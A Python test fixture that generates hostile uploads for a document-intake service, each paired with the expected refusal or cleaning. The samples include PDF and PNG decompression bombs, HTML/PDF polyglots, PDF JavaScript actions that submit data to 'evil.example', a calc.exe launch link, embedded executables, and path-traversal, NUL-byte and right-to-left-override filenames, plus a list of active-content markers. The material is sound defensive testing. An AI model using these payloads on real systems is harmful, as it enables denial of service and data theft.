"""A corpus of hostile uploads, generated at test time (nothing hostile is kept in the repository).

Each case says what intake must do with it: refuse it as too large (413), refuse it as invalid (400), or
accept it and store it cleaned. The benchmark (bench/hostile_uploads.py) sends the same corpus.
"""

import functools
import io
import zlib
from dataclasses import dataclass

from PIL import Image

# Substrings that must not survive in a stored PDF that had active content.
ACTIVE_MARKERS = (b"/JavaScript", b"/JS", b"/OpenAction", b"/AA", b"/Launch", b"/EmbeddedFile", b"/RichMedia")
ACTIVE_MARKERS += (b"/XFA", b"<html", b"<script", b"calc.exe")


@dataclass(frozen=True)
class Case:
    name: str
    filename: str
    content: bytes
    # 413: refused as too large; 400: refused as invalid; 201: accepted (stored cleaned).
    expected: int
    # A word of the message the user reads when refused.
    says: str = ""


def pdf(objects: list[bytes], *, prefix: bytes = b"", suffix: bytes = b"") -> bytes:
    """A PDF with exact cross-reference offsets; object 1 is the catalog."""
    output = bytearray(prefix + b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(output))
        output += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(output)
    output += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        output += b"%010d 00000 n \n" % (offset - len(prefix))
    output += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref - len(prefix))
    return bytes(output) + suffix


def stream(data: bytes, dictionary: bytes = b"") -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (dictionary, len(data), data)


def one_page_pdf(*, catalog: bytes = b"", page: bytes = b"", extra: list[bytes] = (), **options) -> bytes:
    """Catalog (1), pages (2), page (3), its content (4), then `extra` objects from 5."""
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R %s >>" % page,
            stream(b"0 0 m 100 100 l S"),
            *extra,
        ],
        **options,
    )


def inflating_pdf(inflated_bytes: int) -> bytes:
    """A page whose content stream inflates to `inflated_bytes` of zeros (about 1 000:1). Each megabyte is
    deflated on its own (a full flush forgets the history), so one compressed megabyte is repeated: the
    gigabyte is never built, and the zlib checksum is computed as it would be."""
    block = bytes(1024 * 1024)
    count = max(1, inflated_bytes // len(block))
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    compressor.compress(block)
    compressor.flush(zlib.Z_FULL_FLUSH)
    repeated = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    end = compressor.flush(zlib.Z_FINISH)
    checksum = 1
    for _ in range(count):
        checksum = zlib.adler32(block, checksum)
    compressed = b"\x78\xda" + repeated * count + end + checksum.to_bytes(4, "big")
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
            stream(bytes(compressed), b"/Filter /FlateDecode"),
        ]
    )


def pixel_bomb_png(width: int = 12_000, height: int = 12_000) -> bytes:
    """144 megapixels of one colour: some 20 kB of PNG, 144 MB and more once decoded."""
    output = io.BytesIO()
    Image.new("1", (width, height), 0).save(output, "PNG", optimize=True)
    return output.getvalue()


def jpeg(size=(400, 300)) -> bytes:
    output = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(output, "JPEG", quality=95)
    return output.getvalue()


JAVASCRIPT = b"<< /S /JavaScript /JS (app.alert('pwned'); this.submitForm('https://evil.example/')) >>"
HTML = b"<html><body><script>fetch('/api/v1/me/').then(r => r.text()).then(alert)</script></body></html>\n"


@functools.cache
def corpus(*, bomb_bytes: int = 1024 * 1024 * 1024) -> list[Case]:
    plain = one_page_pdf()
    return [
        Case("pdf_bomb_1GB", "bilan.pdf", inflating_pdf(bomb_bytes), 413, "MB"),
        Case("png_pixel_bomb", "photo.png", pixel_bomb_png(), 413, "megapixels"),
        Case("pdf_html_polyglot_after_eof", "compte-rendu.pdf", plain + HTML, 201),
        Case("html_pdf_polyglot_before_header", "compte-rendu.pdf", HTML + plain, 400, "PDF"),
        Case(
            "pdf_javascript_openaction",
            "ordonnance.pdf",
            one_page_pdf(catalog=b"/OpenAction 5 0 R", extra=[JAVASCRIPT]),
            201,
        ),
        Case(
            "pdf_javascript_names_tree",
            "ordonnance.pdf",
            one_page_pdf(catalog=b"/Names << /JavaScript << /Names [(run) 5 0 R] >> >>", extra=[JAVASCRIPT]),
            201,
        ),
        Case(
            "pdf_page_additional_action",
            "ordonnance.pdf",
            one_page_pdf(page=b"/AA << /O 5 0 R >>", extra=[JAVASCRIPT]),
            201,
        ),
        Case(
            "pdf_launch_link",
            "ordonnance.pdf",
            one_page_pdf(
                page=b"/Annots [5 0 R]",
                extra=[b"<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] /A << /S /Launch /F (calc.exe) >> >>"],
            ),
            201,
        ),
        Case(
            "pdf_embedded_file",
            "ordonnance.pdf",
            one_page_pdf(
                catalog=b"/Names << /EmbeddedFiles << /Names [(invoice.exe) 5 0 R] >> >>",
                extra=[
                    b"<< /Type /Filespec /F (invoice.exe) /EF << /F 6 0 R >> >>",
                    stream(b"MZ\x90\x00 calc.exe payload", b"/Type /EmbeddedFile"),
                ],
            ),
            201,
        ),
        Case(
            "pdf_file_attachment_annotation",
            "ordonnance.pdf",
            one_page_pdf(
                page=b"/Annots [5 0 R]",
                extra=[
                    b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS 6 0 R >>",
                    b"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>",
                    stream(b"MZ calc.exe", b"/Type /EmbeddedFile"),
                ],
            ),
            201,
        ),
        Case(
            "pdf_richmedia_and_xfa",
            "formulaire.pdf",
            one_page_pdf(
                catalog=b"/AcroForm << /Fields [] /XFA 6 0 R >>",
                page=b"/Annots [5 0 R]",
                extra=[
                    b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] /RichMediaContent << >> >>",
                    stream(b"<xdp:xdp><script>app.alert(1)</script></xdp:xdp>"),
                ],
            ),
            201,
        ),
        Case("pdf_truncated", "scan.pdf", plain[: len(plain) // 2], 400, "PDF"),
        Case("jpeg_truncated", "photo.jpg", jpeg()[:600], 400, "image"),
        Case("zero_bytes", "vide.pdf", b"", 400, "empty"),
        Case("name_very_long", "a" * 1000 + ".pdf", plain, 201),
        Case("name_path_traversal", "../../x.pdf", plain, 201),
        Case("name_nul", "ordonnance\x00.exe.pdf", plain, 201),
        Case("name_rtl_override", "facture\u202efdp.exe", plain, 201),
        Case("name_emoji", "💊 ordonnance 🩺.pdf", plain, 201),
    ]
